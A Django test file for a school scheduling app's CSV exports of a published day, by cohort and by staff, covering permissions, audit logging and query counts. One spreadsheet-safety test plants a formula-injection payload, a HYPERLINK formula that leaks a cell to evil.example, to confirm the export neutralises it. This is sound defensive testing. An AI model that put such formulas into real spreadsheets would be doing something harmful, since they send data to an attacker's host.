"""A published day as CSV for the spreadsheets leaders keep: by cohort and by staff member.

The school is ``lab_world``'s kindergarten, built and published for Tuesday 1 September: Ms.
Rivera teaches literacy to both homerooms in Room 103; the lab plan gives Mr. Diaz an ELD group
in the resource room and a tutoring group of three at the lab's small-group table, and Ms. Chen
an IEP group of two (one student of each homeroom) in the resource room.

Times are written as the export writes them (``exports.hhmm``, the locale's TIME_FORMAT).
"""

import csv
import datetime
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from scheduling.models import ActivityKind, LabGroup, LabSegment, ScheduleStatus
from scheduling.selectors import exports
from scheduling.services.builds import schedule_build
from students.models import AuditAction, AuditEvent, Role, Student

from ...conftest import client_for
from ...factories import CohortFactory, NetworkAdminFactory, StaffFactory, UserFactory
from ..factories import ScheduledBlockFactory
from ..lab_world import FAST, built_lab_world
from ..test_selectors import DATE, T

pytestmark = pytest.mark.django_db

COHORT_HEADER = ["Date", "Cohort", "Grade", "Start", "End", "Station", "Room", "Staff"]
STAFF_HEADER = ["Date", "Staff", "Roles", "Start", "End", "Station", "Cohort", "Room"]


def leader_of(school):
    return StaffFactory(school=school, roles=[Role.LEADER]).user


def export_url(school, layout: str, date: datetime.date = DATE) -> str:
    return reverse(f"day-export-{layout}", args=[school.pk, date.isoformat()])


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


def at(hour: int, minute: int = 0) -> str:
    """A time of day as the export writes it."""
    return exports.hhmm(T(hour, minute))


def day_url(school, date: datetime.date = DATE) -> str:
    return f"{reverse('schedule-day', args=[school.pk])}?date={date.isoformat()}"


# --- the two layouts ----------------------------------------------------------------------------


def test_a_leader_downloads_the_day_by_cohort_one_row_per_block_by_cohort_then_start():
    world = built_lab_world()
    school = world.school

    response = client_for(leader_of(school)).get(export_url(school, "cohorts"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="{school.slug}-2026-09-01-cohorts.csv"'
    )
    assert response.content.startswith("\ufeff".encode())  # Excel reads it as UTF-8
    header, *rows = rows_of(response)
    assert header == COHORT_HEADER
    assert len(rows) == world.schedule.blocks.count() == 8
    assert [row[1] for row in rows] == ["K Howard"] * 4 + ["K Stanford"] * 4
    for cohort in ("K Howard", "K Stanford"):
        starts = [row[3] for row in rows if row[1] == cohort]
        blocks = world.schedule.blocks.filter(cohort__name=cohort).order_by("start")
        assert starts == [at(b.start.hour, b.start.minute) for b in blocks]
    literacy = [row for row in rows if row[5] == "Literacy / humanities"]
    assert literacy == [
        ["2026-09-01", "K Howard", "K", at(9, 5), at(9, 45), "Literacy / humanities", "Room 103",
         "Ms. Rivera"],
        ["2026-09-01", "K Stanford", "K", at(8), at(8, 40), "Literacy / humanities", "Room 103",
         "Ms. Rivera"],
    ]  # fmt: skip
    assert [
        "2026-09-01", "K Stanford", "K", at(10, 25), at(10, 45), "Lunch", "Cafeteria", ""
    ] in rows  # fmt: skip
    assert {row[5] for row in rows} == {
        "Literacy / humanities",
        "Flexible block",
        "Learning Lab",
        "Lunch",
    }


def test_a_leader_downloads_the_day_by_staff_with_the_lab_plans_groups_as_counts():
    world = built_lab_world()
    school = world.school

    response = client_for(leader_of(school)).get(export_url(school, "staff"))

    assert response.status_code == 200
    assert response["Content-Disposition"] == (
        f'attachment; filename="{school.slug}-2026-09-01-staff.csv"'
    )
    header, *rows = rows_of(response)
    assert header == STAFF_HEADER
    # By staff (last name, first name), then start.
    assert [row[1] for row in rows] == ["Ms. Chen"] + ["Mr. Diaz"] * 2 + ["Ms. Rivera"] * 2
    assert [row for row in rows if row[1] == "Ms. Rivera"] == [
        ["2026-09-01", "Ms. Rivera", "Humanities teacher", at(8), at(8, 40),
         "Literacy / humanities", "K Stanford", "Room 103"],
        ["2026-09-01", "Ms. Rivera", "Humanities teacher", at(9, 5), at(9, 45),
         "Literacy / humanities", "K Howard", "Room 103"],
    ]  # fmt: skip
    # A group's row: the group for the station, how many students for the cohort, its place.
    assert [row for row in rows if row[1] == "Mr. Diaz"] == [
        ["2026-09-01", "Mr. Diaz", "Tutor", at(8, 45), at(9, 15), "Service group (ELD)",
         "1 student", "Resource room"],
        ["2026-09-01", "Mr. Diaz", "Tutor", at(9, 50), at(10, 20), "Tutoring group (literacy)",
         "3 students", "Learning Lab · Small-group table"],
    ]  # fmt: skip
    assert [(row[3], row[5], row[6], row[7]) for row in rows if row[1] == "Ms. Chen"] == [
        (at(9, 50), "Service group (IEP)", "2 students", "Resource room"),
    ]
    # Counts only: no student's name is in the file.
    text = response.content.decode("utf-8-sig")
    for student in Student.objects.filter(school=school):
        assert student.last_name not in text
    assert (
        not AuditEvent.objects.filter(model="students.student")
        .exclude(action=AuditAction.DENIED)
        .filter(via__contains="export")
    )


def test_a_day_without_a_lab_plan_lists_blocks_only_and_the_roles_of_each_staff_member():
    world = built_lab_world()
    world.schedule.lab_plan.delete()
    world.k.rivera.role_grants.create(role=Role.LEADER)

    response = client_for(world.k.rivera.user).get(export_url(world.school, "staff"))

    _, *rows = rows_of(response)
    assert [row[1:3] for row in rows] == [["Ms. Rivera", "School leader, Humanities teacher"]] * 2


def test_the_networks_admin_downloads_both_layouts():
    world = built_lab_world()
    admin = NetworkAdminFactory(network=world.school.network, user=UserFactory()).user
    client = client_for(admin)

    assert client.get(export_url(world.school, "cohorts")).status_code == 200
    assert client.get(export_url(world.school, "staff")).status_code == 200


# --- spreadsheet safety -------------------------------------------------------------------------


def test_cells_that_would_be_formulas_are_neutralised():
    world = built_lab_world()
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    world.k.stanford.name = formula
    world.k.stanford.save(update_fields=["name"])
    rivera = world.k.rivera.user
    rivera.first_name, rivera.last_name = "@SUM(1+1)", "-2+3"
    rivera.save(update_fields=["first_name", "last_name"])
    client = client_for(leader_of(world.school))

    _, *by_cohort = rows_of(client.get(export_url(world.school, "cohorts")))
    _, *by_staff = rows_of(client.get(export_url(world.school, "staff")))

    stanford = [row for row in by_cohort if "HYPERLINK" in row[1]]
    assert len(stanford) == 4
    assert {row[1] for row in stanford} == {"'" + formula}
    assert {row[7] for row in by_cohort if row[7].endswith("-2+3")} == {"'@SUM(1+1) -2+3"}
    assert "'" + formula in {row[6] for row in by_staff}
    for row in by_cohort + by_staff:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize(
    ("value", "safe"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\tx", "'\tx"),
        ("K Stanford", "K Stanford"),
        ("O'Brien", "O'Brien"),
        ("a=b", "a=b"),
        ("", ""),
        (None, ""),
    ],
)
def test_safe_cell(value, safe):
    assert exports.safe_cell(value) == safe


# --- who may download, and what ----------------------------------------------------------------


def test_a_leader_of_another_school_gets_404_and_the_attempt_is_recorded(school_b):
    world = built_lab_world()
    stranger = client_for(school_b.leader.user)

    responses = [stranger.get(export_url(world.school, layout)) for layout in ("cohorts", "staff")]

    assert [r.status_code for r in responses] == [404, 404]
    assert AuditEvent.objects.filter(user=school_b.leader.user, action=AuditAction.DENIED).exists()


def test_a_teacher_of_the_school_gets_403_as_on_every_leader_page():
    world = built_lab_world()
    teacher = client_for(world.k.rivera.user)

    assert teacher.get(export_url(world.school, "cohorts")).status_code == 403
    assert teacher.get(export_url(world.school, "staff")).status_code == 403


def test_anonymous_visitors_are_sent_to_log_in():
    world = built_lab_world()

    client = client_for(leader_of(world.school))
    client.logout()
    answer = client.get(export_url(world.school, "cohorts"))

    assert answer.status_code == 302
    assert answer["Location"].startswith(reverse("login"))


def test_a_date_with_nothing_published_answers_404_with_a_message():
    world = built_lab_world()
    leader = client_for(leader_of(world.school))
    # A draft of Wednesday is not published: it is not exported either.
    wednesday = DATE + datetime.timedelta(days=1)
    draft = schedule_build(school=world.school, date=wednesday, publish=False, options=FAST)
    assert draft.ok and draft.schedule.status == ScheduleStatus.DRAFT

    for date in (wednesday, DATE + datetime.timedelta(days=30)):
        response = leader.get(export_url(world.school, "cohorts", date))
        assert response.status_code == 404
        assert "Nothing is published" in response.content.decode()
        assert "there is no day to export" in response.content.decode()


def test_a_date_that_does_not_exist_answers_404():
    world = built_lab_world()
    leader = client_for(leader_of(world.school))

    response = leader.get(
        reverse("day-export-staff", args=[world.school.pk, "2026-02-30"]),
    )

    assert response.status_code == 404


def test_a_post_is_refused():
    world = built_lab_world()
    leader = client_for(leader_of(world.school))

    assert leader.post(export_url(world.school, "cohorts")).status_code == 405


# --- a fixed number of queries ------------------------------------------------------------------


def test_the_queries_do_not_grow_with_the_blocks_and_groups(django_assert_max_num_queries):
    world = built_lab_world()
    school, schedule = world.school, world.schedule
    client = client_for(leader_of(school))
    counts = {}
    for layout in ("cohorts", "staff"):
        with CaptureQueriesContext(connection) as queries:
            assert client.get(export_url(school, layout)).status_code == 200
        counts[layout] = len(queries)
    # The session and user, the school and its leadership, the schedule; then the blocks (and
    # for staff, the groups with their counts and places, and the roles).
    assert counts["cohorts"] <= 7 and counts["staff"] == counts["cohorts"] + 2, counts
    blocks, groups = schedule.blocks.count(), LabGroup.objects.filter(plan=schedule.lab_plan)
    taught = schedule.blocks.filter(staff__isnull=False).count()
    assert (blocks, taught, groups.count()) == (8, 2, 3)

    # Twelve more cohorts, each with two blocks taught by a new teacher in a new room, and a new
    # tutor's groups with students.
    grade = world.k.stanford.grade
    for index in range(12):
        cohort = CohortFactory(school=school, grade=grade, name=f"K Extra {index:02d}")
        teacher = StaffFactory(school=school, roles=[Role.HUMANITIES, Role.STEM])
        for station, start, end in (("literacy", T(8, 0), T(8, 40)), ("math", T(9, 0), T(9, 40))):
            ScheduledBlockFactory(
                schedule=schedule,
                cohort=cohort,
                station=station,
                start=start,
                end=end,
                staff=teacher,
                room=world.k.stanford.homeroom,
            )
    tutor = StaffFactory(school=school, roles=[Role.TUTOR])
    plan = schedule.lab_plan
    students = list(Student.objects.filter(cohort=world.k.howard)[:6])
    for number, minute in ((101, 0), (102, 15), (103, 30)):
        group = LabGroup.objects.create(
            plan=plan,
            number=number,
            kind=ActivityKind.TUTORING,
            start=T(9, minute),
            end=T(9, minute + 15),
            staff=tutor,
            subject="math",
        )
        for student in students:
            LabSegment.objects.create(
                plan=plan,
                student=student,
                start=group.start,
                end=group.end,
                kind=ActivityKind.TUTORING,
                group=group,
            )

    with django_assert_max_num_queries(counts["cohorts"]):
        _, *rows = rows_of(client.get(export_url(school, "cohorts")))
    assert len(rows) == blocks + 24
    with django_assert_max_num_queries(counts["staff"]):
        _, *rows = rows_of(client.get(export_url(school, "staff")))
    assert len(rows) == taught + 3 + 24 + 3
    assert next(row for row in rows if row[5] == "Tutoring group (math)")[6] == "6 students"
    assert {row[2] for row in rows if row[5] == "Math / STEM"} == {
        "Humanities teacher, STEM teacher"
    }


# --- the links on the pictures pages ------------------------------------------------------------


def test_the_published_days_pictures_link_leaders_to_both_downloads():
    world = built_lab_world()
    school = world.school
    leader = client_for(leader_of(school))

    day = leader.get(day_url(school)).content.decode()
    detail = leader.get(
        reverse("schedule-detail", args=[school.pk, world.schedule.pk])
    ).content.decode()

    for html in (day, detail):
        assert "Download CSV:" in html
        assert f'href="{export_url(school, "cohorts")}" download>by cohort</a>' in html
        assert f'href="{export_url(school, "staff")}" download>by staff</a>' in html


def test_teachers_and_days_without_a_published_version_get_no_download_links():
    world = built_lab_world()
    school = world.school
    leader = client_for(leader_of(school))
    wednesday = DATE + datetime.timedelta(days=1)
    draft = schedule_build(school=school, date=wednesday, publish=False, options=FAST).schedule

    as_teacher = client_for(world.k.rivera.user).get(day_url(school)).content.decode()
    empty_day = leader.get(day_url(school, wednesday)).content.decode()
    draft_page = leader.get(reverse("schedule-detail", args=[school.pk, draft.pk])).content
    assert "Published version 1" in as_teacher
    for html in (as_teacher, empty_day, draft_page.decode()):
        assert "Download CSV" not in html
